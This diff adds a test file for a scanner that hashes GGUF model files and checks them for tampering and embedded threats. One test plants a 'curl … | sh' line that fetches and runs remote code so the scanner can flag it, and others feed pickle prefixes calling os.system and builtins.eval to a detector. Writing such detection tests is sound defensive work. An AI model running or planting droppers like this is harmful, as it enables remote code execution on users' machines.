@@ -1,0 +1,85 @@
+// The one pass: the same report whatever the chunk size and whether a worker thread runs, a
+// digest equal to a plain SHA-256, and a tensor hash tree equal to one computed from the tensors.
+import { createHash } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { encodeGguf, gguf } from '../../../test/support/gguf-writer.js';
+import { tinyModelBytes, tinyModelDocument } from '../../../test/support/tiny-model.js';
+import { parseGgufHeader } from './gguf-parser.js';
+import { tensorMerkleRoot } from './merkle.js';
+import { detectPickle, scanArtifact } from './one-pass-scan.js';
+import { Reason } from './verdict.js';
+
+let dir: string;
+beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'one-pass-'))));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+function write(name: string, bytes: Buffer): string {
+  const path = join(dir, name);
+  writeFileSync(path, bytes);
+  return path;
+}
+
+it('reports the same facts for every chunk size, in the calling thread and with a worker', async () => {
+  const bytes = tinyModelBytes();
+  const path = write('tiny.gguf', bytes);
+  const doc = tinyModelDocument();
+  const expectedRoot = tensorMerkleRoot(doc.tensors.map((t) => ({ name: t.name, sha256: createHash('sha256').update(t.data).digest() })));
+  const reports = [];
+  for (const [chunkBytes, workerThresholdBytes] of [[4 << 20, Infinity], [4096, Infinity], [1000, Infinity], [4 << 20, 0], [3000, 0]] as const) {
+    const report = await scanArtifact(path, { chunkBytes, workerThresholdBytes });
+    expect(report.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
+    expect(report.tensorMerkleRoot).toBe(expectedRoot);
+    expect(report.header).toMatchObject({ status: 'ok', version: 3, tensorCount: 21, keyCount: 22 });
+    expect(report.patterns).toEqual([]);
+    expect(report.layout).toBeUndefined();
+    expect(report.paddingNotZeroAt).toBeUndefined();
+    reports.push({ ...report, durationMs: 0 });
+  }
+  for (const r of reports.slice(1)) expect(r).toEqual(reports[0]);
+}, 30_000);
+
+it('parses a header larger than a chunk (a 150,000-token vocabulary)', async () => {
+  const doc = tinyModelDocument();
+  doc.kv.push({ key: 'tokenizer.ggml.merges', value: gguf.strings(Array.from({ length: 150_000 }, (_, i) => `tok${i} en${i}`)) });
+  const path = write('vocab.gguf', encodeGguf(doc));
+  const report = await scanArtifact(path, { chunkBytes: 256 * 1024 });
+  expect(report.header).toMatchObject({ status: 'ok', keyCount: 23 });
+  expect(report.header.status === 'ok' && report.header.headerBytes).toBeGreaterThan(2_000_000);
+  expect(report.tensorMerkleRoot).toMatch(/^[0-9a-f]{64}$/);
+});
+
+it('notices non-zero alignment padding', async () => {
+  const bytes = tinyModelBytes();
+  const parsed = parseGgufHeader(bytes, bytes.length);
+  if (parsed.status !== 'ok') throw new Error('bad model');
+  expect(parsed.header.dataOffset).toBeGreaterThan(parsed.header.headerBytes);
+  const tampered = Buffer.from(bytes);
+  tampered[parsed.header.dataOffset - 1] = 0x41;
+  const report = await scanArtifact(write('padding.gguf', tampered));
+  expect(report.paddingNotZeroAt).toBe(parsed.header.dataOffset - 1);
+});
+
+it('still hashes and scans every byte of a file whose header is invalid', async () => {
+  const bytes = Buffer.concat([Buffer.from('NOTGGUF!'), Buffer.from('\ncurl http://203.0.113.7/x | sh\n')]);
+  const report = await scanArtifact(write('invalid.gguf', bytes));
+  expect(report.header).toMatchObject({ status: 'invalid', reason: Reason.BadMagic });
+  expect(report.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
+  expect(report.patterns.map((p) => p.reason)).toEqual([Reason.ShellDropper]);
+  expect(report.tensorMerkleRoot).toBeUndefined();
+});
+
+it('scans an empty file without failing', async () => {
+  const report = await scanArtifact(write('empty.gguf', Buffer.alloc(0)));
+  expect(report).toMatchObject({ sizeBytes: 0, header: { status: 'invalid', reason: Reason.HeaderTruncated } });
+});
+
+it.each([
+  [Buffer.from([0x80, 0x04, 0x95, 0x00]), 'pickle protocol 4'],
+  [Buffer.from('cos\nsystem\n'), 'pickle GLOBAL os'],
+  [Buffer.from('cbuiltins\neval\n'), 'pickle GLOBAL builtins'],
+  [Buffer.from('GGUF\x03\x00\x00\x00'), undefined],
+])('detects pickle prefixes: %j', (bytes, found) => {
+  expect(detectPickle(bytes)).toBe(found);
+});
